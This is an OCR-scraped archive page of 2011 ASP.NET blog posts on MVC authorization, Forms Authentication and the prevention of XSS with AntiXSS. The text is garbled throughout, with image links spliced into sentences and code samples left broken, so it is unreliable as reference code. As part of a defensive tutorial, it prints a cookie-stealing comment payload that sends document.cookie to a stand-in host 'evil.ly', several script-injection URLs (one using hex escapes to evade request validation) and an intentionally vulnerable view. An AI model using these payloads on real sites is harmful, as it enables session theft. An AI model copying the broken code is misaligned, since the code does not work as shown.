April 2011 - Posts - Jon Galloway

April 2011 - Posts

Looking at how the ASP.NET MVC Authorize interacts with ASP.NET Forms Authorization

Background: The Authorization flow in a default ASP.NET MVC Internet Application

ASP.NET MVC includes an [Authorize] attribute, which when placed on any controller actions will forbid unauthorized access. The AuthorizeAttribute allows you to specify a list of roles or users, like this:

public ActionResult FireEmployee(int id)var employee = GetEmployees().Single(e => a.EmployeeId == id);

    //TODO: Fix the glitch

    return View(employee);

You can alsoplace the AuthorizeAttribute on a controller, in which case it will apply to all actions in the controller. Attempting to access an action secured by the AuthorizeAttribute when you're not logged in will take you to a standard LogOn screen, with a link toregister if you don't already have an account.

2011-04-23 23h45_12

You don't have to write this code, because the ASP.NET MVC 3 Internet Application template includes a basic AccountController which implements the following actions (along with the associated models and views):

  • LogOn
  • Register
  • ChangePassword / ChangePasswordSuccess

How does the [Authorize] attribute redirect me to Log On?

The AuthorizeAttribute is an ActionFilter, which means that it can execute before the associated controller action. The AuthorizeAttribute performs its main work in the OnAuthorization method,which is a standard methoddefined in the IAuthorizationFilter interface. Checkingthe MVC source code, we can see that the underlying security check is reallyjust looking at the underlying authentication information held by the ASP.NET context:

IPrincipal user = httpContext.User;

if (!user.Identity.IsAuthenticated)
    return false;

If the user fails authentication, an HttpUnauthorizedResult ActionResult is returned, which produces an HTTP 401(Unauthorized) status code. If it weren’t for ASP.NET Forms Authentication, an HTTP 401 status code would be sent to the browser, which would show the browser’s default login prompt. You can get an idea using the (very useful) httpstat.us site, browsing to http://httpstat.us/401

2011-04-28 16h08_23

These 401 prompts are uniformly hideous, but the real problem is that they aren’t able to authenticate against membership systems running on your server. That’s why most websites prefer to display a nice login web form (as shown in the first login screenshot). As mentioned earlier, that’s where ASP.NET Forms Authentication comes into play.

How ASP.NET Forms Authentication turns MVC’s 401 errors into a redirect to a login pageYour application’s web.config contains the settings you’re most likely to need to edit. There are a lot of other default values living in the Framework’s web.config file. On my default installation, that file is found at C:\Windows\Microsoft.NET\Framework\v4.0.30319\Config\web.config. If you crack that open, you’ll see that there are 14 default HTTP Modules installed. One of them is the FormsAuthenticationModule. The code for the FormsAuthenticationModule is found in System.Web.dll.

The FormsAuthenticationModule OnLeave method has one purpose: it checks for 401 responses and turns them into redirects. Before it redirects, though, it figures outa return url so so after completing login successfully, the Account / Logon action redirects to the originally requested page.

The login url is defined in the application’s web.config, as shown below.

<authentication mode="Forms">
    <forms loginUrl="~/Account/LogOn"timeout="2880" />

You can of course change this login url to any custom location that makes sense for you.

The AccountController LogOn method is a standard ASP.NET MVC controller action. There’s not a lot of code here, since it’s leveraging the underlying membership provider mechanism in ASP.NET.

public ActionResult LogOn(LogOnModel model, string returnUrl)
    if (ModelState.IsValid)
        if (Membership.ValidateUser(model.UserName, model.Password))
            FormsAuthentication.SetAuthCookie(model.UserName, model.RememberMe);
            if (Url.IsLocalUrl(returnUrl) && returnUrl.Length > 1 && returnUrl.StartsWith("/")
                && !returnUrl.StartsWith("//") && !returnUrl.StartsWith("/\\"))
                return Redirect(returnUrl);
                return RedirectToAction("Index", "Home");
            ModelState.AddModelError("", "The user name or password provided is incorrect.");

    // If we got this far, something failed, redisplay form
    return View(model);

This is all configurable

It’s nice that this is all provided in an ASP.NET MVC the Internet Application and Intranet Application templates. In simple cases, adding authorization doesn’t require any additional code or configuration.

Equally nice, though, is that you can change any of those parts:

  • The AccountController (as well as theassociated Account models and views) is a standard ASP.NET MVC controller, which is pretty easy to modify. You can see an example of this in the MVC Music Store tutorial, in which we migrate an anonymous shopping cart to a user account on registration / login.
  • The authorization calls work against the standard ASP.NET Membership provider mechanism, as defined in your web.config <authorization> setting. You can switch providers, or write your own.
  • The AuthorizeAttribute is a standard authorization attribute, implementing IAuthorizeFilter. You can create your own authorization filters.
Posted by Jon Galloway | 12 comment(s)
Filed under: ,

Preventing Javascript Encoding XSS attacks in ASP.NET MVC

I just posted about cross-site scripting, or XSS attacks, in ASP.NET  - take a quick look at that post for some background on XSS attacks. I wanted to take a deeper look at Javascript Encoding XSS attacks. They're a particularly tricky form of XSS, since Javascript encoded values are valid HTML and will pass through default HTML encoding. Here's an example - let's assume we want to add a special welcome message to our home page if a UserName parameter is present so we can send out personalized links to the site in an e-mailpromotion. We start by modifying the HomeController / Index method:

public ActionResult Index(string UserName)
    ViewBag.UserName = UserName;
    return View();

Then we add this information to the home index view, using Javascript so that we can make sure our users notice it:

Warning: Do not use this code - it's got an XSS vulnerability.

    ViewBag.Title = "Home Page";
<h2 id="welcome-message">Welcome to our website</h2>@if(!string.IsNullOrWhiteSpace(ViewBag.UserName)) {
<script type="text/javascript">
    $(function () {
        var message = 'Welcome, @ViewBag.UserName!';

Sadly, we've just exposed our end users to an XSS vulnerability. Nonsense, you say! We tested that with the following url: http://localhost:58570/?UserName=<script>alert('pwnd')</script>

As you can see, it was detected by request validation:

2011-04-28 11h03_54

But since this value is being rendered via Javascript, it's vulnerable to Javascript encoding, which won't be picked up by the ASP.NET encoder. Try this url: http://localhost:58570/?UserName=Jon\x3cscript\x3e%20alert(\x27pwnd\x27)%20\x3c/script\x3e

2011-04-28 11h09_15

Note: Remember that we're using an alert here for demonstration purposes, but a real XSS attack will do something more sinister, designed so end users will never notice.

Fixing the Javascript encoding XSS vulnerability

There are two ways to handle this. The simplest is to use the @Ajax.JavaScriptStringEncode helper function, like this:ViewBag.Title = "Home Page";
<h2 id="welcome-message">Welcome to our website</h2>

@if(!string.IsNullOrWhiteSpace(ViewBag.UserName)) {
<script type="text/javascript">
    $(function () {
        var message = 'Welcome, @Ajax.JavaScriptStringEncode(ViewBag.UserName)!';

If we've included the AntiXSS library in our project, we can bring in the namespace with a @using Microsoft.Security.Application statement and call into the AntiXSS library's JavaScriptStringEncode function, which follows a whitelist approach to screen out alternate encodings and character sets.

@using Microsoft.Security.Application

    ViewBag.Title = "Home Page";
<h2 id="welcome-message">Welcome to our website</h2>

@if(!string.IsNullOrWhiteSpace(ViewBag.UserName)) {
<script type="text/javascript">
    $(function () {
        var message = 'Welcome, @Encoder.JavaScriptEncode(ViewBag.UserName, false)!';

Note: By default, the AntiXSS JavaScriptEncode function wraps the value in single quotes. With AntiXSS 4.1, there's an optional second parameter which allows turning that behavior off by passing in false, as shown above.

With either of the above two checks in place, the Javascript XSS injection is caught:2011-04-28 11h22_21

Using AntiXSS 4.1 Beta as the Default Encoder in ASP.NET

Background on Cross-site scripting attacks

Cross-site scripting attacks, or XSS, are a common web application vulnerability in which an attackeruses your website to present malicious code to another user. OWASP sums it up like this:

Cross-site scripting (XSS) attacks occur when an attacker uses a web application to send malicious code, generally in the form of a browser side script, to a different end user.

A simple example of this kind of attack works like this:

  1. A hacker - we'll call him Barry - notices that my blog's comment system doesn't screen input
  2. Barry posts some malicious content, maybe something with a script tag, or maybe something that steals cookies, like
    Great post! Gucci handbags! <img src='http://evil.ly/?cookies=' + escape(document.cookie)" />
  3. The next person to visit my site - we'll call him Rob Conery - is presented with the HTML that Barry posted in the comment, which grabs their cookies and sends them off to their evil server

This is a simple example, but as you can imagine, these attacks can get pretty devious. Twitter, Facebook, and MySpace have been hit with this. Take a look at the OWASP writeup for more info, and take a look at theXSS Cheat Sheet at ha.ckers.org to get an idea of how sneaky these attacks can be.


AntiXSS, part of the Windows Protection Library, has a lot of encoding functions which help prevent XSS attacks in ASP.NET applications. Whereas the standard .NET framework encoding uses a blacklist approach, filtering out known bad characters, like < > and " characters, the AntiXSS library uses a whitelist of known good characters. AntiXSS also has protections in place spanning character sets in over a different languages. Due to this approach, AntiXSS is inherently safer against new XSS attacks.

There are two ways you can use AntiXSS in your ASP.NET applications:

  1. You can make use of the AntiXSS Encoder in your application code(e.g. controller code, View markup, Web Forms code behind, and Web Forms markup)
  2. If you're using ASP.NET 4.0, you can also specify a default encoder, which will be used by ASP.NET whenever it needs to encode output. The recommended approach is to use AntiXSS as your default encoder.

All this is, so far, old news. Phil Haack wrote a blog post last year on  Using AntiXss As The Default Encoder For ASP.NET. This required including the AntiXssLibrary assembly in your application, and writing a class which inherits from the HttpEncoder abstract base class, and making a setting in the web.config which tells the ASP.NET runtime to use your encoder class.

Starting with AntiXSS 4.1, though, this gets easier, since AntiXSS 4.1 includes an encoder class for you.

Getting the AntiXSS 4.1 library

Since AntiXSS 4.1 is currently in beta, you'll need to build the assembly from source. Fortunately, in a break from the standard OSS .NET projects I've encountered lately, Barry has posted source that builds without any wacky configuration steps, libraries, or build tools whatsoever. I like it already!

Note: Since this we're just adding an assembly to our project and making a simple change to the web.config, I would expect that this will be available as a  NuGet package when AntiXSS 4.1 goes RTM.

1. Grab the source from http://wpl.codeplex.com/SourceControl/list/changesets, download the latest version of the source, and build. Easy so far.

2. Build the Microsoft.Security.Application.Encoder.Net4 assembly. This is important - if you just build the Encoder project, it won't include the AntiXssEncoder class.

2011-04-27 16h28_43

3. Grabthe AntiXssEncoder.dll assembly and drop it in a folder. I generally keep a /lib folder next to my project folder, so it sits next to the /packages folder if you've got NuGet packages installed as well.

2011-04-28 10h03_08

4. Add a project reference to the AntiXssLibrary.dll. The simplest way to do this is to use the Project / Add Reference dialog, pick the Browse tab, and navigate to the /lib folder you just added.

2011-04-28 10h06_47

5. Modify your web.config so that your system.web/httpRuntime/encoderType is set as shown below:

